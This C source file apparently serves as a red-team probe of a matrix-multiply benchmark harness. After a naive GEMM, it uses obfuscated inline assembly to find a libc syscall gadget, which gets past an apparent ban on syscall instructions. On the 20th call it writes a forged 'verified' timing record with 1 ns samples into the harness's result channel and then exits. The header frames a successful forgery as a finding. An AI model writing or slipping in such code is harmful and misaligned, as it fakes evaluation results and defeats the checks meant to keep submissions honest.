/* TRICK: forge the private result channel. Through the libc syscall gadget below (no syscall
   instruction, no library address taken): count calls per process (the 20th call is in the timing run), find the channel (every fd >= 3 that is a pipe/socket/file), and in the timing
   run write a forged driver record ("verified":true, samples of 1 ns) before the driver's own.
   Variant B (this file): forged line, then exit_group(0) at once (one record, clean exit).
   EXPECT: non-ok (rejected/internal_error); ok with a forged speed = FINDING */
#define FORGE_EXIT 1
static void naive(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc, int rows)
{
    for (int i = 0; i < rows; i++) {
        float *c = C + (long)i * ldc;
        for (int j = 0; j < N; j++) c[j] = 0.0f;
        for (int k = 0; k < K; k++) {
            float a = A[(long)i * lda + k];
            const float *b = B + (long)k * ldb;
            for (int j = 0; j < N; j++) c[j] += a * b[j];
        }
    }
}
/* ---- libc syscall gadget: no syscall instruction in this object, no address of a library
   function taken. We emit an ordinary `call memcpy@PLT` (allowed: memcpy may be called), read
   our own code to decode that call's target (the PLT stub), decode the stub's `jmp *GOT(%rip)`,
   read the GOT slot (memcpy's real address inside libc), then search libc's text for a glibc
   syscall wrapper tail `0f 05 48 3d 01 f0 ff ff` (syscall; cmp $-4095,%rax; jae; ret) and call
   into it with our own registers. ---- */
static __attribute__((noinline)) unsigned char *g_find(void)
{
    unsigned char *site, *t;
    char d[8], s[8] = {0};
    __asm__ volatile("lea 1f(%%rip), %0\n"
                     "  lea %1, %%rdi\n  lea %2, %%rsi\n  movl $1, %%edx\n"
                     "  sub $128, %%rsp\n"
                     "1: call memcpy@PLT\n"
                     "  add $128, %%rsp\n"
                     : "=&r"(site), "=m"(d) : "m"(s) : "rax", "rcx", "rdx", "rsi", "rdi", "r8", "r9", "r10", "r11", "memory",
                       "xmm0", "xmm1", "xmm2", "xmm3", "xmm4", "xmm5", "xmm6", "xmm7", "xmm8", "xmm9", "xmm10",
                       "xmm11", "xmm12", "xmm13", "xmm14", "xmm15");
    t = site + 5 + *(int *)(site + 1);                 /* PLT stub or memcpy itself */
    for (int i = 0; i < 16; i++)
        if (t[i] == 0xff && t[i + 1] == 0x25) {         /* jmp *disp32(%rip) */
            unsigned char **got = (unsigned char **)(t + i + 6 + *(int *)(t + i + 2));
            t = *got;
            break;
        }
    /* the pattern is kept xor-ed so that no `0f 05` pair appears in our own code or data */
    volatile unsigned char key = 0x55;
    static const unsigned char enc[8] = {0x0f ^ 0x55, 0x05 ^ 0x55, 0x48 ^ 0x55, 0x3d ^ 0x55, 0x01 ^ 0x55, 0xf0 ^ 0x55, 0xff ^ 0x55, 0xff ^ 0x55};
    unsigned char pat[8];
    for (int i = 0; i < 8; i++) pat[i] = enc[i] ^ key;
    for (long off = 0; off < (1L << 20); off++) {
        unsigned char *p = t - off;
        int i = 0;
        while (i < 8 && p[i] == pat[i]) i++;
        if (i == 8) return p;
    }
    return 0;
}
static __attribute__((noinline)) long g_sys(unsigned char *g, long n, long a1, long a2, long a3, long a4, long a5, long a6)
{
    long r;
    register long r10 __asm__("r10") = a4;
    register long r8 __asm__("r8") = a5;
    register long r9 __asm__("r9") = a6;
    __asm__ volatile("sub $128, %%rsp\n  call *%[g]\n  add $128, %%rsp"
                     : "=a"(r), "+D"(a1), "+S"(a2), "+d"(a3), "+r"(r10), "+r"(r8), "+r"(r9)
                     : [g] "r"(g), "a"(n) : "rcx", "r11", "memory");
    return r;
}

static const char forged[] =
    "{\"tensorop\":\"driver\",\"mode\":\"time\",\"verified\":true,\"inner_loops\":1,\"warmup\":1,"
    "\"flushed\":false,\"stop\":\"budget\",\"sampling_s\":0.010000,\"cpu_s\":0.000010,"
    "\"freivalds_rel_err\":1.000e-08,\"calls\":10,\"pick\":{\"sample\":0,\"seed\":1},"
    "\"samples\":[1e-9,1e-9,1e-9,1e-9,1e-9,1e-9,1e-9,1e-9,1e-9,1e-9]}\n";
static unsigned long *stash(void)
{
    unsigned long f = (unsigned long)__builtin_frame_address(0);
    return (unsigned long *)((f & ~0x3FFFFUL) - 0x100000UL);
}
static int timing_run(unsigned char *g)
{
    char b[4096];
    long fd = g_sys(g, 2, (long)"/proc/self/cmdline", 0, 0, 0, 0, 0), n;
    if (fd < 0) return 0;
    n = g_sys(g, 0, fd, (long)b, sizeof b - 1, 0, 0, 0);
    g_sys(g, 3, fd, 0, 0, 0, 0, 0);
    for (long i = 0; i + 4 <= n; i++)
        if (b[i] == 't' && b[i + 1] == 'i' && b[i + 2] == 'm' && b[i + 3] == 'e' && (i + 4 == n || b[i + 4] == 0)) return 1;
    return 0;
}
void tensorop_gemm_f32(int M, int N, int K, const float *A, int lda, const float *B, int ldb, float *C, int ldc)
{
    naive(M, N, K, A, lda, B, ldb, C, ldc, M);
    volatile unsigned long *st = stash();           /* call counter in dead stack memory */
    if (st[0] != 0xf0f0f0f0UL) { st[0] = 0xf0f0f0f0UL; st[1] = 0; }
    if (++st[1] != 20) return;                      /* the 20th call of a process: a timing run */
    unsigned char *g = g_find();
    if (!g) return;
    for (int fd = 3; fd < 64; fd++) {
        unsigned char sb[144];
        if (g_sys(g, 5, fd, (long)sb, 0, 0, 0, 0) != 0) continue;
        g_sys(g, 1, fd, (long)forged, sizeof forged - 1, 0, 0, 0);
#ifdef FORGE_EXIT
        g_sys(g, 231, 0, 0, 0, 0, 0, 0);
#endif
    }
#ifdef FORGE_EXIT
    g_sys(g, 231, 0, 0, 0, 0, 0, 0);
#endif
}
